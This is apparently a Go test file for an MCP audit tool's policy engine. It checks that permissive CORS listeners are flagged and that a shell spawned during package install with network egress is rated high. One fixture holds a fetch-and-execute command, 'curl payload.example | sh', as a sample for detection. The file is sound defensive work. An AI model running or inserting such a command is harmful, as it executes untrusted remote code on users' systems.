package policy

import (
	"testing"

	m "github.com/mcp-audit/mcp-audit/internal/manifest"
)

// TestProbeCORS: a listener that allows any origin, or reflects the
// probe's, is high once per socket; one that names another origin or
// none is not.
func TestProbeCORS(t *testing.T) {
	probe := func(port int, acao string) m.ListenerProbe {
		p := m.ListenerProbe{Address: "127.0.0.1", Port: port, Request: "GET /", Status: 200}
		if acao != "" {
			p.Headers = []string{"Access-Control-Allow-Origin: " + acao}
		}
		return p
	}
	man := &m.Manifest{Phases: []m.Phase{{Name: m.PhaseIdle, Probes: []m.ListenerProbe{
		probe(8080, "*"), probe(8080, "*"), probe(8081, m.ProbeOrigin), probe(8082, "https://app.example"), probe(8083, ""),
	}}}}
	got := map[string]Severity{}
	for _, f := range Evaluate(man, Policy{}) {
		if f.Kind == KindListener {
			got[f.Subject] = f.Severity
		}
	}
	want := map[string]Severity{"127.0.0.1:8080 CORS": High, "127.0.0.1:8081 CORS": High}
	if len(got) != len(want) || got["127.0.0.1:8080 CORS"] != High || got["127.0.0.1:8081 CORS"] != High {
		t.Errorf("findings %v, want %v", got, want)
	}
}

// TestLifecycleShell: in an install phase whose lifecycle shells are
// marked, the marked one is the install script whatever its argv, and a
// shell it starts is a shell (with egress, high) even in the form npm
// uses; without marks (older manifests) the form decides.
func TestLifecycleShell(t *testing.T) {
	net := []m.Connection{{Name: "payload.example", Category: m.ConnEgress}}
	judge := func(ps []m.Process) map[string]string {
		out := map[string]string{}
		for _, f := range Evaluate(&m.Manifest{Phases: []m.Phase{{Name: m.PhaseInstall, Processes: ps, Network: net}}}, Policy{}) {
			if f.Kind == KindShell || f.Kind == KindInstallScript {
				out[f.Evidence] = f.Kind + " " + f.Severity.String()
			}
		}
		return out
	}
	marked := judge([]m.Process{
		{Path: "/bin/sh", Argv: []string{"sh", "/tmp/npm-lifecycle-x.sh"}, Shell: true, Lifecycle: true},
		{Path: "/bin/sh", Argv: []string{"sh", "-c", "curl payload.example | sh"}, Shell: true},
	})
	if marked["sh /tmp/npm-lifecycle-x.sh"] != "install-script low" || marked["sh -c curl payload.example | sh"] != "shell high" {
		t.Errorf("marked: %v", marked)
	}
	old := judge([]m.Process{{Path: "/bin/sh", Argv: []string{"sh", "-c", "prebuild-install || node-gyp rebuild"}, Shell: true}})
	if old["sh -c prebuild-install || node-gyp rebuild"] != "install-script low" {
		t.Errorf("unmarked: %v", old)
	}
}
